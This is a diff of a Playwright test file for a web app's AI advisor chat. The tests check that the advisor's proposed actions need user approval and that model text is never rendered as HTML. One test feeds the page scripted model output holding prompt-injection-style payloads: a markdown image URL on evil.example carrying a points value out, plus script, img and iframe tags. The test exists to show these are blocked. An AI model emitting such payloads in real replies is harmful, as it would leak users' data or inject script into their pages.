@@ -1,35 +1,18 @@
 import assert from 'node:assert/strict'
-import { after, before, describe, test } from 'node:test'
-import type { Browser, Page } from 'playwright-core'
-import { startTestServer, type TestServer } from '../harness.ts'
-import { calls, type ModelServer, says, startModelServer } from '../model-server.ts'
-import { assertPleasant, desk, openBrowser, openContext, phone, watchForTrouble } from './chromium-browser.ts'
-import { logIn } from './sign-in.ts'
+import { describe, test } from 'node:test'
+import type { Page } from 'playwright-core'
+import { calls, says } from '../model-server.ts'
+import { browserSite, startServerWithModel } from './browser-site.ts'
+import { assertPleasant, desk, phone } from './chromium-browser.ts'
 
 const record = calls({ name: 'record_event', args: { type: 'sales_recorded', note: '12 bowls <b>sold</b>' } })
 
-let server: TestServer
-let model: ModelServer
-let browser: Browser
-before(async () => {
-  model = await startModelServer()
-  server = await startTestServer({ env: { LLM_BASE_URL: model.url, LLM_MODEL_NAME: 'scripted' } })
-  browser = await openBrowser()
-})
-after(async () => {
-  await browser?.close()
-  await server?.close()
-  await model?.close()
-})
+const site = browserSite(startServerWithModel)
 
-async function chatOf(device: Parameters<typeof openContext>[1], email: string) {
-  const context = await openContext(browser, device)
-  const page = await context.newPage()
-  const trouble = watchForTrouble(page)
-  await logIn(page, server.url, email)
-  await page.getByTestId('total-points').waitFor()
-  await page.goto(`${server.url}/chat`)
-  return { context, page, trouble }
+async function chatOf(...who: Parameters<typeof site.visit>) {
+  const visit = await site.visit(...who)
+  await visit.page.goto(`${site.server.url}/chat`)
+  return visit
 }
 
 async function ask(page: Page, text: string, composer = 'Message to the advisor'): Promise<void> {
@@ -40,9 +23,10 @@ async function ask(page: Page, text: string, composer = 'Message to the advisor'
 
 describe('what the advisor wants to do', () => {
   test('is shown before it is done, survives a reload, and is approved with the keyboard', async () => {
+    const { server } = site
     const { email, token } = await server.owner()
-    const { context, page, trouble } = await chatOf(phone, email)
-    model.enqueue(record, says('It is in the books.'))
+    const { page, leave } = await chatOf(phone, email)
+    server.model.enqueue(record, says('It is in the books.'))
     await ask(page, 'I sold 12 bowls')
     const card = page.getByTestId('approval')
     await card.getByRole('heading', { name: 'Record “sales recorded” for Warung Sari' }).waitFor()
@@ -63,16 +47,16 @@ describe('what the advisor wants to do', () => {
       points.json.map((entry: { type: string }) => entry.type),
       ['sales_recorded'],
     )
-    assert.deepEqual(trouble, [])
-    await context.close()
+    await leave()
   })
 
   test('is not done when the person says no, and focus stays at the card', async () => {
+    const { server } = site
     const { email, token } = await server.owner({ name: 'Budi' })
     await server.api('PATCH', '/auth/me', { token, body: { locale: 'id' } })
-    const { context, page, trouble } = await chatOf({ ...desk, colorScheme: 'dark' }, email)
+    const { page, leave } = await chatOf({ ...desk, colorScheme: 'dark' }, email)
     const { promise: later, resolve: goOn } = Promise.withResolvers<void>()
-    model.enqueue(record, { steps: [{ until: later }, { text: 'Baik, saya batalkan.' }, { finish: 'stop' }] })
+    server.model.enqueue(record, { steps: [{ until: later }, { text: 'Baik, saya batalkan.' }, { finish: 'stop' }] })
     await ask(page, 'catat penjualan', 'Pesan untuk penasihat')
     const card = page.getByTestId('approval')
     await card.getByRole('heading', { name: 'Catat “sales recorded” untuk Warung Sari' }).waitFor()
@@ -84,29 +68,30 @@ describe('what the advisor wants to do', () => {
     goOn()
     await page.getByTestId('answer').getByText('Baik, saya batalkan.').waitFor()
     assert.deepEqual((await server.api('GET', '/gamification/points', { token })).json, [])
-    assert.deepEqual(trouble, [])
-    await context.close()
+    await leave()
   })
 
   test('cannot be decided any more once the answer was stopped', async () => {
+    const { server } = site
     const { email, token } = await server.owner()
-    const { context, page } = await chatOf(desk, email)
-    model.enqueue(record)
+    const { page, leave } = await chatOf(desk, email)
+    server.model.enqueue(record)
     await ask(page, 'I sold 12 bowls')
     await page.getByTestId('approval').getByRole('button', { name: 'Approve' }).waitFor()
     await page.getByRole('button', { name: 'Stop' }).click()
     await page.getByTestId('approval').getByRole('button', { name: 'Approve' }).waitFor({ state: 'detached' })
     assert.deepEqual((await server.api('GET', '/gamification/points', { token })).json, [])
-    await context.close()
+    await leave()
   })
 })
 
 test('a model’s text is never HTML, and neither its images nor its links are fetched', async () => {
+  const { server } = site
   const { email } = await server.owner()
-  const { context, page, trouble } = await chatOf(desk, email)
+  const { page, leave } = await chatOf(desk, email)
   const fetched: string[] = []
   page.on('request', (request) => fetched.push(request.url()))
-  model.enqueue(
+  server.model.enqueue(
     says(
       'Look: ![receipt](https://evil.example/leak?points=140) <img src="https://evil.example/img">',
       '<script>document.title="owned"</script><iframe src="https://evil.example/frame"></iframe>\n\n',
@@ -132,6 +117,5 @@ test('a model’s text is never HTML, and neither its images nor its links are f
   const policy = (await fetch(`${server.url}/`)).headers.get('content-security-policy') ?? ''
   assert.match(policy, /default-src 'self';/)
   assert.doesNotMatch(policy, /https?:|\*|data:|unsafe/)
-  assert.deepEqual(trouble, [])
-  await context.close()
+  await leave()
 })
